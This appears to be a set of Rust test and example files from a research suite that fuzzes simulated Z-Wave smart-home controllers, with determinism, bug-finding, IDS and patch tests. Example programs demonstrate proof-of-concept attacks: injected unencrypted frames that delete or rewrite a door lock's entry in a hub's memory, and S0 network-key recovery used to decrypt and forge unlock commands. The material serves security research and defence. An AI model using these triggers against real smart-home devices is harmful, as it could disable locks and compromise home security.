    assert!(lockout.found_at <= horizon, "lockout at {:?}", lockout.found_at);
}

#[test]
fn blackout_outage_is_not_misclassified_as_battery_drain() {
    // Regression for the oracle's outage heuristic: under the adversarial
    // profile a blackout window (first at 600 s) makes the controller go
    // completely dark mid-flood. On a controller patched against bug #16
    // the dark window is the *only* anomaly — and it must not be scored
    // as a battery-drain verdict, because the drain oracle is energy-
    // derived, not outage-derived.
    let mut tb = Testbed::new(DeviceModel::D1, 33);
    tb.controller_mut().apply_patches(&[16]);
    let mut zc = ZCover::attach(&tb, 70.0);
    let config = FuzzConfig::full(Duration::from_secs(700), 33)
        .with_impairment(ImpairmentProfile::Adversarial)
        .with_scenario(Scenario::S0NoMore);
    let report = zc.run_campaign(&mut tb, config).expect("pipeline");
    assert!(
        report.campaign.counters.attack_frames > 0,
        "the flood ran against the patched controller"
    );
    assert!(
        report.campaign.findings.iter().all(|f| f.bug_id != 16),
        "patched controller still scored a battery-drain verdict: {:?}",
        report.campaign.findings.iter().map(|f| f.bug_id).collect::<Vec<_>>()
    );
    assert_eq!(report.campaign.counters.attack_verdicts, 0, "no attack bug may fire");
}

#[test]
fn patched_controller_rejects_downgrade_and_key_reset() {
    // The Crushing-the-Wave negative: patches for #17/#18 make the armed
    // re-inclusion window safe — the same script produces no downgrade and
    // no lockout, so the scenario oracle has no false-positive path.
    let mut tb = Testbed::new(DeviceModel::D1, 35);
    tb.controller_mut().apply_patches(&[17, 18]);
    let mut zc = ZCover::attach(&tb, 70.0);
    let config = FuzzConfig::full(BUDGET, 35).with_scenario(Scenario::CrushingTheWave);
    let report = zc.run_campaign(&mut tb, config).expect("pipeline");
    assert!(report.campaign.counters.attack_frames > 0);
    assert!(
        report.campaign.findings.iter().all(|f| f.bug_id != 17 && f.bug_id != 18),
        "patched controller accepted the downgrade script"
    );
    assert_eq!(report.campaign.counters.attack_verdicts, 0);
}

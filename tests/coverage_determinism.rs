//! The coverage-guided mode's determinism matrix, mirroring the
//! impairment matrix: coverage campaigns must be bit-identical —
//! verdicts, counters, *and corpus contents* — across executor worker
//! counts and under every named impairment profile.
//!
//! Coverage-guided scheduling is the riskiest mode for determinism: the
//! corpus grows from feedback, so any ordering leak (worker scheduling,
//! map iteration, shared RNG) would compound over the campaign instead of
//! averaging out. Pinning full [`CampaignResult`] equality (the struct
//! includes the retained corpus) makes any such leak a loud failure.

use std::time::Duration;

use zcover_suite::zcover::{
    CampaignExecutor, CampaignResult, FuzzConfig, FuzzMode, ImpairmentProfile,
};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

fn run_coverage_trials(
    model: DeviceModel,
    profile: ImpairmentProfile,
    trials: u64,
    workers: usize,
    budget: Duration,
) -> Vec<CampaignResult> {
    let config = FuzzConfig::coverage(budget, 0).with_impairment(profile);
    let summary = CampaignExecutor::new(workers)
        .run(trials, 0xC0FFEE, |seed| Testbed::new(model, seed), &config)
        .expect("fingerprinting succeeds under every profile");
    summary.per_trial
}

#[test]
fn coverage_trials_are_bit_identical_across_worker_counts_for_every_profile() {
    // Full-struct equality: packets, findings, trace, counters, corpus.
    let budget = Duration::from_secs(1800);
    for profile in ImpairmentProfile::all() {
        let baseline = run_coverage_trials(DeviceModel::D1, profile, 3, 1, budget);
        for workers in [2, 4] {
            let multi = run_coverage_trials(DeviceModel::D1, profile, 3, workers, budget);
            assert_eq!(
                baseline, multi,
                "profile {profile}: coverage trials diverged between 1 and {workers} workers"
            );
        }
    }
}

#[test]
fn rerunning_a_coverage_campaign_reproduces_the_same_corpus() {
    for profile in [ImpairmentProfile::Lossy, ImpairmentProfile::Adversarial] {
        let a = run_coverage_trials(DeviceModel::D3, profile, 2, 2, Duration::from_secs(1200));
        let b = run_coverage_trials(DeviceModel::D3, profile, 2, 2, Duration::from_secs(1200));
        assert_eq!(a, b, "coverage campaign under {profile} is not reproducible");
    }
}

#[test]
fn coverage_results_carry_the_corpus_and_feedback_counters() {
    let trials = run_coverage_trials(
        DeviceModel::D1,
        ImpairmentProfile::Clean,
        2,
        1,
        Duration::from_secs(1800),
    );
    for (i, result) in trials.iter().enumerate() {
        assert_eq!(result.mode, FuzzMode::Coverage);
        assert!(result.counters.edges_seen > 0, "trial {i} saw no dispatch edges");
        assert!(!result.corpus.is_empty(), "trial {i} retained nothing");
        assert_eq!(result.counters.corpus_size, result.corpus.len() as u64);
        assert_eq!(result.counters.retained_inputs, result.corpus.len() as u64);
        // Retention order is campaign order: the packet counter at
        // retention time never decreases, every entry earned its keep.
        let mut last = 0;
        for entry in &result.corpus {
            assert!(entry.new_edges > 0, "trial {i} retained an input with no new edges");
            assert!(entry.retained_at_packets >= last, "trial {i} corpus out of order");
            last = entry.retained_at_packets;
        }
    }
}

#[test]
fn zcover_mode_results_are_unchanged_by_the_instrumentation() {
    // The coverage map is a pure observer: position-sensitive campaigns
    // must report the same verdicts and packet counts as before, with an
    // empty corpus and zero retention.
    let config = FuzzConfig::full(Duration::from_secs(1800), 0);
    let summary = CampaignExecutor::sequential()
        .run(2, 0xC0FFEE, |seed| Testbed::new(DeviceModel::D1, seed), &config)
        .expect("fingerprinting succeeds");
    for result in &summary.per_trial {
        assert_eq!(result.mode, FuzzMode::Zcover);
        assert!(result.corpus.is_empty());
        assert_eq!(result.counters.corpus_size, 0);
        assert_eq!(result.counters.retained_inputs, 0);
        // The instrumentation still observes: edges accumulate even when
        // no feedback loop consumes them.
        assert!(result.counters.edges_seen > 0);
    }
}

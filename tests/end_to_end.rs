//! End-to-end integration tests: the full ZCover pipeline against every
//! testbed controller, spanning all six crates.

use std::time::Duration;

use zcover_suite::zcover::{FuzzConfig, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

fn campaign(model: DeviceModel, seed: u64) -> zcover_suite::zcover::ZCoverReport {
    let mut tb = Testbed::new(model, seed);
    let mut zc = ZCover::attach(&tb, 70.0);
    zc.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(2 * 3600), seed))
        .expect("fingerprinting succeeds")
}

#[test]
fn usb_controllers_yield_all_15_bugs() {
    for model in DeviceModel::usb_models() {
        let report = campaign(model, 0xD1CE);
        let mut ids: Vec<u8> = report.campaign.findings.iter().map(|f| f.bug_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, (1..=15).collect::<Vec<u8>>(), "{model:?}");
    }
}

#[test]
fn smart_hubs_yield_13_bugs_missing_the_host_only_pair() {
    // D6/D7 have no PC controller program, so bugs #06 and #13 (host
    // crash / host DoS) cannot manifest there — exactly Table III's
    // "affected devices" column.
    for model in [DeviceModel::D6, DeviceModel::D7] {
        let report = campaign(model, 0xD1CE);
        let mut ids: Vec<u8> = report.campaign.findings.iter().map(|f| f.bug_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, vec![1, 2, 3, 4, 5, 7, 8, 9, 10, 11, 12, 14, 15], "{model:?}");
    }
}

#[test]
fn discovery_reports_match_table4_for_every_device() {
    for model in DeviceModel::all() {
        let report = campaign(model, 3);
        let expected_listed = model.listed_classes().len();
        assert_eq!(report.discovery.listed.len(), expected_listed);
        assert_eq!(report.discovery.unknown_count(), 45 - expected_listed);
        assert_eq!(report.discovery.proprietary.len(), 2);
    }
}

#[test]
fn campaigns_are_deterministic_per_seed() {
    let a = campaign(DeviceModel::D3, 1234);
    let b = campaign(DeviceModel::D3, 1234);
    let ids = |r: &zcover_suite::zcover::ZCoverReport| {
        r.campaign.findings.iter().map(|f| (f.bug_id, f.found_after_packets)).collect::<Vec<_>>()
    };
    assert_eq!(ids(&a), ids(&b));
    assert_eq!(a.campaign.packets_sent, b.campaign.packets_sent);
}

#[test]
fn different_seeds_change_the_packet_stream_but_not_the_verdict() {
    let a = campaign(DeviceModel::D1, 1);
    let b = campaign(DeviceModel::D1, 2);
    assert_eq!(a.campaign.unique_vulns(), 15);
    assert_eq!(b.campaign.unique_vulns(), 15);
}

#[test]
fn findings_carry_minimized_triggers_that_replay() {
    // Every logged trigger, replayed against a fresh device, reproduces
    // its bug — the PoC-confirmation step of Section IV-A.
    let report = campaign(DeviceModel::D1, 77);
    for finding in report.campaign.findings.iter().filter(|f| f.bug_id <= 15) {
        let mut tb = Testbed::new(DeviceModel::D1, 99);
        let attacker = tb.attach_attacker(70.0);
        let frame = zcover_suite::zwave_protocol::MacFrame::singlecast(
            tb.controller().home_id(),
            zcover_suite::zwave_protocol::NodeId(0x03),
            zcover_suite::zwave_protocol::NodeId(0x01),
            finding.trigger.clone(),
        );
        attacker.transmit(&frame.encode());
        tb.pump();
        let replayed: Vec<u8> =
            tb.controller().fault_log().records().iter().map(|r| r.bug_id).collect();
        assert!(
            replayed.contains(&finding.bug_id),
            "bug #{:02} trigger {:02X?} did not replay (got {replayed:?})",
            finding.bug_id,
            finding.trigger
        );
    }
}

#[test]
fn bug_log_renders_a_complete_report() {
    let report = campaign(DeviceModel::D2, 5);
    let mut log = zcover_suite::zcover::BugLog::new();
    // Re-log through the public API to exercise text rendering.
    for f in &report.campaign.findings {
        let _ = f.duration_label();
    }
    assert_eq!(log.unique_count(), 0);
    log = {
        let mut tb = Testbed::new(DeviceModel::D2, 5);
        let attacker = tb.attach_attacker(70.0);
        let frame = zcover_suite::zwave_protocol::MacFrame::singlecast(
            tb.controller().home_id(),
            zcover_suite::zwave_protocol::NodeId(0x03),
            zcover_suite::zwave_protocol::NodeId(0x01),
            vec![0x01, 0x0D, 0xFF],
        );
        attacker.transmit(&frame.encode());
        tb.pump();
        let mut log = zcover_suite::zcover::BugLog::new();
        for fault in tb.controller_mut().take_new_faults() {
            log.record(&fault, 1);
        }
        log
    };
    let text = log.to_text();
    assert!(text.contains("04 | 0x01 | 0x0D | Infinite"));
}

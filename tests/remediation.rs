//! Integration tests for the paper's Section V-B remediation measures:
//! the lightweight IDS for legacy devices and the vendor patch path
//! ("S2 devices should block malicious payloads via updated Z-Wave
//! specifications ... SiLabs announced a Z-Wave SDK update").

use std::time::Duration;

use zcover_suite::zcover::{FuzzConfig, ZCover};
use zcover_suite::zwave_controller::ids::Ids;
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_radio::Sniffer;

/// Trains an IDS on benign traffic, then measures its recall against the
/// attack packets of a full ZCover campaign.
#[test]
fn ids_detects_the_overwhelming_majority_of_attack_packets() {
    let mut tb = Testbed::new(DeviceModel::D6, 13);
    let mut ids = Ids::new(tb.controller().home_id());
    let mut ids_tap = Sniffer::attach(tb.medium(), 20.0);

    // Training window: benign traffic only.
    for _ in 0..10 {
        tb.exchange_normal_traffic();
    }
    ids_tap.poll();
    for frame in ids_tap.captures() {
        ids.observe(&frame.bytes, frame.at);
    }
    ids_tap.clear();
    ids.finish_training();
    assert!(ids.model().frames_trained() > 20);

    // Attack window: a short ZCover campaign runs against the hub. Every
    // verified bug trigger must correspond to at least one IDS alert.
    let mut zcover = ZCover::attach(&tb, 70.0);
    let report =
        zcover.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(3600), 13)).unwrap();
    assert!(report.campaign.unique_vulns() >= 10);

    ids_tap.poll();
    for frame in ids_tap.captures() {
        ids.observe(&frame.bytes, frame.at);
    }
    let stats = ids.stats();
    assert!(stats.alerts > 0);

    // Recall over the *verified* bug triggers: replay each trigger frame
    // through the detector — all the memory-tampering and interruption
    // payloads are protocol-anomalous and must be flagged.
    let mut flagged = 0usize;
    let mut total = 0usize;
    for finding in report.campaign.findings.iter().filter(|f| f.bug_id <= 15) {
        total += 1;
        let frame = zcover_suite::zwave_protocol::MacFrame::singlecast(
            tb.controller().home_id(),
            zcover_suite::zwave_protocol::NodeId(0x03),
            zcover_suite::zwave_protocol::NodeId(0x01),
            finding.trigger.clone(),
        );
        if ids.observe(&frame.encode(), zcover_suite::zwave_radio::SimInstant::ZERO).is_some() {
            flagged += 1;
        }
    }
    assert_eq!(flagged, total, "IDS missed {} of {} bug triggers", total - flagged, total);
}

#[test]
fn ids_stays_quiet_on_benign_operation() {
    let mut tb = Testbed::new(DeviceModel::D6, 14);
    let mut ids = Ids::new(tb.controller().home_id());
    let mut tap = Sniffer::attach(tb.medium(), 20.0);

    for _ in 0..10 {
        tb.exchange_normal_traffic();
    }
    tap.poll();
    for frame in tap.captures() {
        ids.observe(&frame.bytes, frame.at);
    }
    tap.clear();
    ids.finish_training();

    // More of the same benign traffic: zero false alerts.
    for _ in 0..10 {
        tb.exchange_normal_traffic();
    }
    tap.poll();
    for frame in tap.captures() {
        ids.observe(&frame.bytes, frame.at);
    }
    assert_eq!(ids.stats().alerts, 0, "false positives: {:?}", ids.alerts());
    assert!(ids.stats().accepted > 20);
}

#[test]
fn patched_firmware_yields_zero_findings() {
    // The SDK-update path: patch all fifteen bugs, re-run the campaign.
    let mut tb = Testbed::new(DeviceModel::D1, 15);
    let all_bugs: Vec<u8> = (1..=15).collect();
    tb.controller_mut().apply_patches(&all_bugs);

    let mut zcover = ZCover::attach(&tb, 70.0);
    let report =
        zcover.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(3600), 15)).unwrap();
    assert_eq!(report.campaign.unique_vulns(), 0, "patched device still vulnerable");
    assert!(tb.controller().fault_log().is_empty());
}

#[test]
fn partial_patching_removes_exactly_the_patched_bugs() {
    let mut tb = Testbed::new(DeviceModel::D1, 16);
    // Patch the four memory-tampering bugs and the wake-up clear.
    tb.controller_mut().apply_patches(&[1, 2, 3, 4, 12]);

    let mut zcover = ZCover::attach(&tb, 70.0);
    let report =
        zcover.run_campaign(&mut tb, FuzzConfig::full(Duration::from_secs(3600), 16)).unwrap();
    let mut ids: Vec<u8> = report.campaign.findings.iter().map(|f| f.bug_id).collect();
    ids.sort_unstable();
    assert_eq!(ids, vec![5, 6, 7, 8, 9, 10, 11, 13, 14, 15]);
    // And the NVM survived the campaign intact.
    assert!(tb.controller().nvm().contains(zcover_suite::zwave_controller::LOCK_NODE));
}

//! Steady-state allocation budget for the zero-copy frame path.
//!
//! A counting global allocator measures how many heap allocations one
//! delivered frame costs on a clean channel once the medium is warm. With
//! the shared `FrameBuf` fan-out, a broadcast allocates the frame once and
//! every receiver's delivery is a ref-count bump, so the per-delivered-
//! frame figure must stay small and — crucially — must not scale with the
//! receiver count. Before the refactor each delivery copied the frame, so
//! this budget is the regression tripwire for anyone reintroducing a
//! per-receiver copy.
//!
//! This file deliberately holds a single test: the allocation counter is
//! process-global, and a second test running on a sibling thread would
//! perturb the count.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};

use zcover_suite::zwave_radio::{Medium, SimClock};

struct CountingAlloc;

static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static GLOBAL: CountingAlloc = CountingAlloc;

/// Allocations per delivered frame the steady-state broadcast loop may
/// spend. One transmit to RECEIVERS stations costs a handful of
/// allocations total (the frame buffer, the per-receiver queue entries);
/// amortised per delivery that lands at ~1.5. The old
/// clone-per-receiver path spent an extra allocation per delivery and
/// blows the budget.
const PER_DELIVERY_BUDGET: f64 = 2.0;

const RECEIVERS: u64 = 8;
const ROUNDS: u64 = 200;

#[test]
fn steady_state_allocations_per_delivered_frame() {
    let medium = Medium::new(SimClock::new(), 7);
    let tx = medium.attach(0.0);
    let receivers: Vec<_> = (0..RECEIVERS).map(|i| medium.attach(1.0 + i as f64)).collect();
    let payload = [0xCB, 0x95, 0xA3, 0x4A, 0x0F, 0x20, 0x01, 0x00, 0x2A];

    // Warm up: queues, pools, and lazily-initialised state allocate here.
    for _ in 0..20 {
        tx.transmit(&payload);
        for r in &receivers {
            let _ = r.drain();
        }
    }

    let before = ALLOCATIONS.load(Ordering::Relaxed);
    let mut delivered = 0u64;
    for _ in 0..ROUNDS {
        tx.transmit(&payload);
        for r in &receivers {
            delivered += r.drain().len() as u64;
        }
    }
    let spent = ALLOCATIONS.load(Ordering::Relaxed) - before;

    assert_eq!(delivered, ROUNDS * RECEIVERS, "clean channel must deliver everything");
    let per_delivery = spent as f64 / delivered as f64;
    assert!(
        per_delivery <= PER_DELIVERY_BUDGET,
        "steady-state frame path allocates {per_delivery:.2} heap blocks per delivered frame \
         ({spent} allocations / {delivered} deliveries); budget is {PER_DELIVERY_BUDGET}. \
         Did a per-receiver copy sneak back into the broadcast fan-out?"
    );
}

//! Fingerprints every testbed controller without fuzzing it: the Table IV
//! sweep as a runnable example.
//!
//! ```text
//! cargo run --release --example fingerprint_all
//! ```

use zcover_suite::zcover::{ActiveScanner, UnknownDiscovery, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

fn main() {
    println!(
        "{:<4} {:<10} {:<10} {:<8} {:<14} {:<16} proprietary",
        "ID", "brand", "home id", "node", "known CMDCLs", "unknown CMDCLs"
    );
    for model in DeviceModel::all() {
        let mut testbed = Testbed::new(model, 21);
        let mut zcover = ZCover::attach(&testbed, 55.0);
        let scan = zcover.fingerprint(&mut testbed).expect("traffic");
        let active =
            ActiveScanner::scan(&mut testbed, zcover.dongle_mut(), &scan).expect("NIF answered");
        let discovery =
            UnknownDiscovery::run(&mut testbed, zcover.dongle_mut(), &scan, active.listed);
        println!(
            "{:<4} {:<10} {:<10} {:<8} {:<14} {:<16} {:?}",
            model.idx(),
            testbed.controller().config().brand,
            scan.home_id,
            scan.controller.to_string(),
            discovery.listed.len(),
            discovery.unknown_count(),
            discovery.proprietary.iter().map(|c| c.to_string()).collect::<Vec<_>>(),
        );
    }
}

//! The Figure 2 attack scenario, end to end.
//!
//! ```text
//! cargo run --release --example smart_home_attack
//! ```
//!
//! A Samsung SmartThings hub (D6) controls an S2-secured smart door lock.
//! An attacker 70 metres outside the house (1) scans all Z-Wave traffic,
//! (2-3) learns the network identifiers from sniffed status reports even
//! though the application payload is encrypted, (4) deletes the lock from
//! the controller's memory with a single unencrypted proprietary frame,
//! and (5-6) the homeowner's lock command fails.

use zcover_suite::zcover::{Dongle, PassiveScanner};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed, LOCK_NODE};
use zcover_suite::zwave_controller::HostState;

fn main() {
    let mut home = Testbed::new(DeviceModel::D6, 7);
    println!(
        "smart home: {} hub + S2 door lock (node 0x02) + legacy switch (node 0x03)",
        home.controller().config().brand
    );
    println!("door lock paired with Security 2; hub memory:\n{}", home.controller().nvm().dump());

    // (1) The attacker scans all Z-Wave network traffic from 70 m away.
    let mut scanner = PassiveScanner::new(home.medium(), 70.0);
    // (2) The lock reports status to the hub over S2 as part of normal
    // operation; (3) the traffic is sniffed.
    home.exchange_normal_traffic();
    let scan = scanner.analyze().expect("traffic on the air");
    println!(
        "attacker sniffed {} frames: home id {}, controller {}, slaves {:?}",
        scan.frames_captured,
        scan.home_id,
        scan.controller,
        scan.slaves.iter().map(|n| n.to_string()).collect::<Vec<_>>()
    );
    assert!(home.lock().is_locked(), "door starts locked");

    // (4) One unencrypted proprietary frame (CMDCL 0x01, CMD 0x0D with a
    // truncated registration) deletes the lock from the hub's memory.
    let mut dongle = Dongle::attach(home.medium(), 70.0);
    dongle.inject_apl(
        scan.home_id,
        scan.spoof_source(),
        scan.controller,
        vec![0x01, 0x0D, LOCK_NODE.0],
    );
    home.pump();

    println!("\nattacker injected [0x01 0x0D 0x02] — unencrypted, CS-8 valid");
    println!("hub memory after the attack:\n{}", home.controller().nvm().dump());
    assert!(
        !home.controller().nvm().contains(LOCK_NODE),
        "the S2 door lock vanished from the controller's memory"
    );

    // (5-6) The homeowner tries to lock the door from the app: the hub no
    // longer recognises the lock, so the command fails.
    let fault = &home.controller().fault_log().records()[0];
    println!(
        "verified fault: bug #{:02} ({}) — homeowner can no longer control the lock",
        fault.bug_id, fault.effect
    );
    if let Some(host) = home.controller().host() {
        assert_eq!(host.state(), HostState::Running);
    }
    println!("\nattack complete: Figure 2 reproduced (command fail!)");
}

//! The memory-tampering proof-of-concept attacks of Figures 8-11.
//!
//! ```text
//! cargo run --release --example memory_tampering
//! ```
//!
//! Reproduces, with before/after device-table dumps:
//! * Figure 8 / bug #01 — the door lock's entry is flipped to "routing
//!   slave";
//! * Figure 9 / bug #02 — rogue controllers #10 and #200 are inserted;
//! * Figure 10 / bug #03 — devices #2 and #3 are removed;
//! * Figure 11 / bug #04 — the device table is overwritten with fakes;
//! * bug #12 — the lock's wake-up interval is cleared.

use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_protocol::{MacFrame, NodeId};

fn inject(home: &mut Testbed, attacker: &zcover_suite::zwave_radio::Transceiver, params: &[u8]) {
    let mut payload = vec![0x01, 0x0D];
    payload.extend_from_slice(params);
    let frame = MacFrame::singlecast(
        home.controller().home_id(),
        NodeId(0x03), // spoofed source
        NodeId(0x01),
        payload,
    );
    attacker.transmit(&frame.encode());
    home.pump();
}

fn main() {
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    println!("initial device table:\n{}", home.controller().nvm().dump());

    // Figure 8 — bug #01: change device #2 (the S2 door lock) to a
    // routing slave.
    inject(&mut home, &attacker, &[0x02, 0x04]);
    println!(
        "after [0x01 0x0D 0x02 0x04] (bug #01, memory tampering):\n{}",
        home.controller().nvm().dump()
    );

    // Bug #12: clear the lock's wake-up interval.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[0x02, 0x00]);
    println!(
        "after [0x01 0x0D 0x02 0x00] (bug #12, wake-up interval removed):\n{}",
        home.controller().nvm().dump()
    );

    // Figure 9 — bug #02: insert rogue controllers #10 and #200.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[10, 0x01]);
    inject(&mut home, &attacker, &[200, 0x01]);
    println!(
        "after inserting rogue ids #10 and #200 (bug #02):\n{}",
        home.controller().nvm().dump()
    );

    // Figure 10 — bug #03: remove devices #2 and #3.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[0x02]);
    inject(&mut home, &attacker, &[0x03]);
    println!("after removing devices #2 and #3 (bug #03):\n{}", home.controller().nvm().dump());

    // Figure 11 — bug #04: overwrite the whole database.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[0xFF]);
    println!("after the database overwrite (bug #04):\n{}", home.controller().nvm().dump());

    println!("fault log of the last run:");
    for record in home.controller().fault_log().records() {
        println!(
            "  t={:.3}s bug #{:02} {} (trigger {:02X?})",
            record.at.as_secs_f64(),
            record.bug_id,
            record.effect,
            record.trigger
        );
    }
}

//! The classic S0 weakness (paper Section II-A1: "Security 0 ... is
//! susceptible to MITM attacks due to a fixed temporary key during key
//! exchange", after Fouladi & Ghanoun).
//!
//! ```text
//! cargo run --release --example s0_downgrade
//! ```
//!
//! An S0 inclusion protects the network-key transfer with a *protocol
//! constant* (the all-zero temporary key). A passive eavesdropper captures
//! the exchange, derives the same temporary keys from the public constant,
//! recovers the permanent network key, and from then on reads every S0
//! frame in the home — contrast with the S2 ceremony of
//! `tests/inclusion_over_air.rs`, where the sniffer learns nothing.

use zcover_suite::zwave_crypto::s0::{decapsulate, encapsulate, S0Keys};
use zcover_suite::zwave_crypto::NetworkKey;

fn main() {
    // ── The household performs an S0 inclusion ─────────────────────────
    let network_key = NetworkKey::from_seed(0xBEEF);
    let temp = S0Keys::derive_temp(); // derived from the FIXED all-zero key

    // Controller → joining device: NETWORK_KEY_SET under the temp key.
    let mut key_set = vec![0x98, 0x06];
    key_set.extend_from_slice(network_key.bytes());
    let sender_nonce = [0x11u8; 8];
    let receiver_nonce = [0x22u8; 8];
    let on_air = encapsulate(&temp, 0x01, 0x04, &sender_nonce, &receiver_nonce, &key_set);
    println!("inclusion frame on air: {} bytes, S0-encrypted under the temp key", on_air.len());

    // ── The attacker, 70 m away, captured that frame ────────────────────
    // The "temporary key" is a specification constant, so the attacker
    // derives the very same working keys...
    let attacker_temp = S0Keys::derive_temp();
    let plaintext = decapsulate(&attacker_temp, 0x01, 0x04, &receiver_nonce, &on_air)
        .expect("the fixed temp key decrypts the exchange");
    assert_eq!(plaintext[..2], [0x98, 0x06]);
    let mut stolen = [0u8; 16];
    stolen.copy_from_slice(&plaintext[2..18]);
    println!("attacker recovered the permanent network key from the key exchange");
    assert_eq!(&stolen, network_key.bytes());

    // ── Every subsequent S0 frame is an open book ───────────────────────
    let household = S0Keys::derive(&network_key);
    let attacker = S0Keys::derive(&NetworkKey::new(stolen));
    let lock_cmd = [0x62, 0x01, 0x00]; // door unlock!
    let sn = [0x33u8; 8];
    let rn = [0x44u8; 8];
    let traffic = encapsulate(&household, 0x01, 0x02, &sn, &rn, &lock_cmd);
    let read_back = decapsulate(&attacker, 0x01, 0x02, &rn, &traffic).unwrap();
    assert_eq!(read_back, lock_cmd);
    println!("attacker decrypted live S0 traffic: {read_back:02X?} (door unlock)");

    // And worse: with the key, the attacker can *forge* valid S0 frames.
    let forged = encapsulate(&attacker, 0x01, 0x02, &[0x55u8; 8], &rn, &[0x62, 0x01, 0x00]);
    assert!(decapsulate(&household, 0x01, 0x02, &rn, &forged).is_ok());
    println!("attacker forged an authenticated S0 unlock command");
    println!("\nconclusion: S0 inclusions must be treated as compromised; use S2 (see tests/inclusion_over_air.rs)");
}

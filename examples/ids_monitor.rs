//! The Section V-B remediation in action: a lightweight IDS watches the
//! network while ZCover attacks it.
//!
//! ```text
//! cargo run --release --example ids_monitor
//! ```

use std::time::Duration;

use zcover_suite::zcover::{FuzzConfig, ZCover};
use zcover_suite::zwave_controller::ids::Ids;
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_radio::Sniffer;

fn main() {
    let mut home = Testbed::new(DeviceModel::D6, 23);
    let mut ids = Ids::new(home.controller().home_id());
    let mut tap = Sniffer::attach(home.medium(), 20.0);

    // Training: the IDS learns the household's normal behaviour.
    println!("training the IDS on benign traffic ...");
    for _ in 0..10 {
        home.exchange_normal_traffic();
    }
    tap.poll();
    for frame in tap.captures() {
        ids.observe(&frame.bytes, frame.at);
    }
    tap.clear();
    ids.finish_training();
    println!(
        "model: {} frames observed, member nodes {:?}\n",
        ids.model().frames_trained(),
        ids.model().known_nodes()
    );

    // Attack: a 20-minute ZCover campaign runs against the hub.
    println!("running a ZCover campaign against the hub ...");
    let mut zcover = ZCover::attach(&home, 70.0);
    let report =
        zcover.run_campaign(&mut home, FuzzConfig::full(Duration::from_secs(1200), 23)).unwrap();
    println!(
        "campaign: {} packets, {} unique vulnerabilities\n",
        report.campaign.packets_sent,
        report.campaign.unique_vulns()
    );

    // Scoring: feed everything the tap saw through the detector.
    tap.poll();
    for frame in tap.captures() {
        ids.observe(&frame.bytes, frame.at);
    }
    let stats = ids.stats();
    println!(
        "IDS verdict: {} frames inspected, {} alerts, {} accepted",
        stats.frames_seen, stats.alerts, stats.accepted
    );

    // Show the first few alerts with their reasons.
    println!("\nfirst alerts:");
    for alert in ids.alerts().iter().take(8) {
        let reasons: Vec<String> = alert.reasons.iter().map(|r| r.to_string()).collect();
        println!(
            "  {} src={} [{}]",
            alert.at,
            alert.src.map_or("?".into(), |n| n.to_string()),
            reasons.join(", ")
        );
    }
}

//! Quickstart: point ZCover at a simulated controller and fuzz it.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```
//!
//! Walks the three phases of the paper — fingerprinting, unknown-property
//! discovery, position-sensitive fuzzing — against the ZooZ ZST10 (D1) and
//! prints the bug log.

use std::time::Duration;

use zcover_suite::zcover::{FuzzConfig, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

fn main() {
    // A Z-Wave network: the controller under test plus an S2 door lock and
    // a legacy switch, on a simulated radio medium.
    let mut testbed = Testbed::new(DeviceModel::D1, 42);
    println!(
        "target: {} {} ({})",
        testbed.controller().config().brand,
        testbed.controller().config().model,
        testbed.controller().config().idx
    );

    // The attacker's dongle sits 70 metres away, outside the house.
    let mut zcover = ZCover::attach(&testbed, 70.0);

    // Run all three phases with a 30-minute (virtual) fuzzing budget.
    let report = zcover
        .run_campaign(&mut testbed, FuzzConfig::full(Duration::from_secs(1800), 42))
        .expect("the simulated network is alive");

    println!("\nphase 1 — known properties fingerprinting");
    println!("  home id:    {}", report.scan.home_id);
    println!("  controller: {}", report.scan.controller);
    println!(
        "  slaves:     {:?}",
        report.scan.slaves.iter().map(|n| n.to_string()).collect::<Vec<_>>()
    );
    println!("  listed CMDCLs (NIF): {}", report.active.listed.len());

    println!("\nphase 2 — unknown properties discovery");
    println!("  spec-inferred unlisted: {}", report.discovery.unlisted_from_spec.len());
    println!(
        "  proprietary (validation testing): {:?}",
        report.discovery.proprietary.iter().map(|c| c.to_string()).collect::<Vec<_>>()
    );
    println!("  total prioritized targets: {}", report.discovery.prioritized_targets().len());

    println!("\nphase 3 — position-sensitive mutation fuzzing");
    println!("  packets sent: {}", report.campaign.packets_sent);
    println!("  virtual time: {:.0} s", report.campaign.duration().as_secs_f64());
    println!("  unique vulnerabilities: {}\n", report.campaign.unique_vulns());
    for f in &report.campaign.findings {
        println!(
